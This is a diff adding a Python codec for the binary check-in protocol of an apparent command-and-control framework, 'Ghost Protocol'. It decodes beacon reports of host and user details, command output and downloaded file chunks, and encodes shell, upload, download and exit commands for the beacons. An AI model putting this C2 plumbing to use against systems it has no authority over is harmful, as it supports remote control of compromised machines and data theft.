@@ -0,0 +1,230 @@
+"""
+Ghost Protocol Binary Check-in Framing
+
+Type/length/value records exchanged with beacons started with --binary.
+Each record is one type byte, a big-endian 32-bit length and the value;
+integers are big-endian and as wide as their record.
+
+When the beacon's C codec has been built (make codec in beacon/c_src) the
+check-in decoder and the command encoder run there; the code below is the
+reference and the fallback, and both must produce the same values.
+"""
+
+import json
+import struct
+from typing import Dict, List, Any, Iterator, Optional, Tuple
+
+try:
+    from . import _codec
+except ImportError:
+    _codec = None
+
+TLV_MAGIC = b"GPT\x01"
+TLV_CONTENT_TYPE = "application/x-ghost-tlv"
+
+_HEADER = struct.Struct(">BI")
+
+# Check-in body
+TLV_BEACON_ID = 0x01
+TLV_TIMESTAMP = 0x02
+TLV_SYSTEM_INFO = 0x10
+TLV_RESULT = 0x20
+TLV_BACKPRESSURE = 0x30
+TLV_TELEMETRY = 0x60
+
+# Check-in reply
+TLV_COMMAND = 0x40
+TLV_ACK = 0x50
+TLV_SESSION = 0x70
+
+# Inside TLV_RESULT and TLV_COMMAND
+TLV_COMMAND_ID = 0x21
+TLV_SUCCESS = 0x22
+TLV_OUTPUT = 0x23
+TLV_RESULT_TIME = 0x24
+TLV_SEQUENCE = 0x25
+TLV_FINAL = 0x26
+TLV_RESULT_SEQ = 0x27
+TLV_FILE_DATA = 0x28
+TLV_OFFSET = 0x29
+TLV_COMMAND_NAME = 0x41
+TLV_COMMAND_ARGS = 0x42
+TLV_COMMAND_OPCODE = 0x43
+
+# Inside TLV_TELEMETRY, one TLV_PHASE per timed phase
+TLV_PHASE = 0x61
+TLV_PHASE_NAME = 0x62
+TLV_PHASE_BUCKETS = 0x67
+
+_BUCKET = struct.Struct(">BI")
+
+# Opcodes from the beacon's command_registry.h; commands not listed travel by name only
+COMMAND_OPCODES = {"shell": 1, "pwd": 2, "exit": 3, "download": 4, "upload": 5, "schedule": 6}
+
+# Phase names and bucket count shared with the beacon's telemetry.h; bucket i
+# counts samples below 2**i microseconds that did not fit in bucket i - 1
+TELEMETRY_PHASES = ("dns", "connect", "tls", "send", "ttfb", "hold", "receive",
+                    "encode", "parse", "execute", "checkin")
+TELEMETRY_BUCKETS = 32
+
+# Field names match the JSON check-in so both framings decode to the same dict
+_SYSTEM_INFO_FIELDS = {
+    0x11: ("hostname", str),
+    0x12: ("username", str),
+    0x13: ("os_name", str),
+    0x14: ("os_version", str),
+    0x15: ("architecture", str),
+    0x16: ("pid", int),
+    0x17: ("cwd", str),
+}
+
+_RESULT_FIELDS = {
+    TLV_COMMAND_ID: ("command_id", str),
+    TLV_SUCCESS: ("success", bool),
+    TLV_OUTPUT: ("output", str),
+    TLV_RESULT_TIME: ("timestamp", str),
+    TLV_SEQUENCE: ("sequence", int),
+    TLV_FINAL: ("final", bool),
+    TLV_RESULT_SEQ: ("result_seq", int),
+    # Download chunks carry raw bytes here, where JSON has them base64-encoded
+    TLV_FILE_DATA: ("data", bytes),
+    TLV_OFFSET: ("offset", int),
+}
+
+_BACKPRESSURE_FIELDS = {
+    0x31: ("queued_results", int),
+    0x32: ("queued_bytes", int),
+    0x33: ("budget", int),
+    0x34: ("accept", int),
+    0x35: ("long_poll", int),
+}
+
+_PHASE_FIELDS = {
+    0x63: ("count", int),
+    0x64: ("failures", int),
+    0x65: ("sum_us", int),
+    0x66: ("max_us", int),
+}
+
+
+def is_tlv(body: bytes) -> bool:
+    """Check whether a body carries the binary framing"""
+    return body[:len(TLV_MAGIC)] == TLV_MAGIC
+
+
+def iter_records(data: memoryview) -> Iterator[Tuple[int, memoryview]]:
+    """Yield (type, value) pairs, raising ValueError on a truncated record"""
+    offset = 0
+    while offset < len(data):
+        if len(data) - offset < _HEADER.size:
+            raise ValueError("truncated TLV header")
+        record_type, length = _HEADER.unpack_from(data, offset)
+        offset += _HEADER.size
+        if length > len(data) - offset:
+            raise ValueError("truncated TLV value")
+        yield record_type, data[offset:offset + length]
+        offset += length
+
+
+def _convert(value: memoryview, kind: type) -> Any:
+    if kind is str:
+        return bytes(value).decode("utf-8", errors="replace")
+    if kind is bytes:
+        return bytes(value)
+    number = int.from_bytes(value, "big")
+    return bool(number) if kind is bool else number
+
+
+def _decode_fields(value: memoryview, fields: Dict[int, Tuple[str, type]]) -> Dict[str, Any]:
+    decoded = {}
+    for record_type, field in iter_records(value):
+        if record_type in fields:
+            name, kind = fields[record_type]
+            decoded[name] = _convert(field, kind)
+    return decoded
+
+
+def _decode_telemetry(value: memoryview) -> Dict[str, Dict[str, Any]]:
+    """Decode per-phase histograms; buckets are packed (index, count) pairs"""
+    telemetry = {}
+    for record_type, phase in iter_records(value):
+        if record_type != TLV_PHASE:
+            continue
+        name = None
+        decoded: Dict[str, Any] = {"buckets": []}
+        for field_type, field in iter_records(phase):
+            if field_type == TLV_PHASE_NAME:
+                name = _convert(field, str)
+            elif field_type == TLV_PHASE_BUCKETS:
+                if len(field) % _BUCKET.size:
+                    raise ValueError("truncated telemetry buckets")
+                decoded["buckets"] = [list(pair) for pair in _BUCKET.iter_unpack(field)]
+            elif field_type in _PHASE_FIELDS:
+                key, kind = _PHASE_FIELDS[field_type]
+                decoded[key] = _convert(field, kind)
+        if name:
+            telemetry[name] = decoded
+    return telemetry
+
+
+def decode_checkin(body: bytes) -> Dict[str, Any]:
+    """Decode a binary check-in into the same shape as the JSON body"""
+    if _codec is not None:
+        return _codec.decode_checkin(body)
+    if not is_tlv(body):
+        raise ValueError("missing TLV magic")
+    
+    checkin: Dict[str, Any] = {}
+    results: List[Dict[str, Any]] = []
+    
+    for record_type, value in iter_records(memoryview(body)[len(TLV_MAGIC):]):
+        if record_type == TLV_BEACON_ID:
+            checkin["beacon_id"] = _convert(value, str)
+        elif record_type == TLV_TIMESTAMP:
+            checkin["timestamp"] = _convert(value, str)
+        elif record_type == TLV_SYSTEM_INFO:
+            checkin["system_info"] = _decode_fields(value, _SYSTEM_INFO_FIELDS)
+        elif record_type == TLV_RESULT:
+            results.append(_decode_fields(value, _RESULT_FIELDS))
+        elif record_type == TLV_BACKPRESSURE:
+            checkin["backpressure"] = _decode_fields(value, _BACKPRESSURE_FIELDS)
+        elif record_type == TLV_TELEMETRY:
+            checkin["telemetry"] = _decode_telemetry(value)
+    
+    if results:
+        checkin["command_results"] = results
+    return checkin
+
+
+def _record(record_type: int, value: bytes) -> bytes:
+    return _HEADER.pack(record_type, len(value)) + value
+
+
+def _text(value: Any) -> bytes:
+    if value is None:
+        return b""
+    if not isinstance(value, str):
+        # Structured arguments travel as JSON text, as they do in the JSON reply
+        value = json.dumps(value)
+    return value.encode("utf-8")
+
+
+def encode_commands(commands: List[Dict[str, Any]], ack: Optional[int] = None,
+                    session: Optional[str] = None) -> bytes:
+    """Encode a command batch, with any result acknowledgement and check-in token, using the binary framing"""
+    if _codec is not None:
+        return _codec.encode_commands(commands, ack, session, COMMAND_OPCODES)
+    parts = [TLV_MAGIC]
+    if ack is not None:
+        parts.append(_record(TLV_ACK, struct.pack(">Q", ack)))
+    if session is not None:
+        parts.append(_record(TLV_SESSION, _text(session)))
+    for command in commands:
+        fields = (_record(TLV_COMMAND_ID, _text(command.get("id"))) +
+                  _record(TLV_COMMAND_NAME, _text(command.get("command"))) +
+                  _record(TLV_COMMAND_ARGS, _text(command.get("args"))))
+        opcode = COMMAND_OPCODES.get(command.get("command"))
+        if opcode is not None:
+            fields += _record(TLV_COMMAND_OPCODE, bytes([opcode]))
+        parts.append(_record(TLV_COMMAND, fields))
+    return b"".join(parts)